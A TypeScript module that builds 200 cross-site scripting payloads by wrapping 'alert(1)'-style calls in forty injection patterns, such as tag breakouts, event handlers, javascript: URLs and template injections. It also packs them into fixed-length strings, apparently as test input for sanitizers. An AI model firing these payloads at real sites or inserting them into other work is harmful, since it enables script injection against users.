/** Texts that run a script wherever they are taken for markup, for an address, or for a part of a script. */
const calls = ['alert(1)', 'alert`1`', 'window.alert(1)', 'top[`al`+`ert`](1)', 'self.alert(1)']
const around: ((call: string) => string)[] = [
  call => `<script>${call}</script>`,
  call => `</script><script>${call}</script>`,
  call => `<!--</script>--><script>${call}</script>`,
  call => `</title><script>${call}</script>`,
  call => `</textarea><script>${call}</script>`,
  call => `</style><script>${call}</script>`,
  call => `]]><script>${call}</script>`,
  call => `<img src=x onerror=${call}>`,
  call => `"><img src=x onerror=${call}>`,
  call => `'><img src=x onerror=${call}>`,
  call => `<svg onload=${call}>`,
  call => `<svg><script>${call}</script></svg>`,
  call => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  call => `<body onload=${call}>`,
  call => `<iframe srcdoc="<script>${call}</script>">`,
  call => `<iframe src=javascript:${call}>`,
  call => `<a href=javascript:${call} autofocus>x</a>`,
  call => `javascript:${call}`,
  call => `jAvAsCrIpT:${call}//`,
  call => `data:text/html,<script>${call}</script>`,
  call => `<details open ontoggle=${call}>`,
  call => `<input autofocus onfocus=${call}>`,
  call => `<video><source onerror=${call}></video>`,
  call => `<marquee onstart=${call}>`,
  call => `<object data=javascript:${call}>`,
  call => `<embed src=javascript:${call}>`,
  call => `<base href=javascript:${call}//>`,
  call => `<link rel=stylesheet href=javascript:${call}>`,
  call => `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
  call => `<form action=javascript:${call}><button autofocus>x</button></form>`,
  call => `"-${call}-"`,
  call => `'-${call}-'`,
  call => `\\"-${call}//`,
  call => `\${${call}}`,
  call => `{{constructor.constructor('${call}')()}}`,
  call => `\u2028${call}\u2029`,
  call => `"};${call};{"`,
  call => `<x onclick=${call} style=position:fixed;inset:0>`,
  call => `<template><script>${call}</script></template>`,
  call => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
]

/** Two hundred of them. */
export const payloads = around.flatMap(wrap => calls.map(wrap))

/** The payloads in as few texts of this length as they fit into. */
export function textsOf(length: number): string[] {
  const texts: string[] = []
  for (const payload of payloads.filter(payload => payload.length <= length)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= length)
      texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
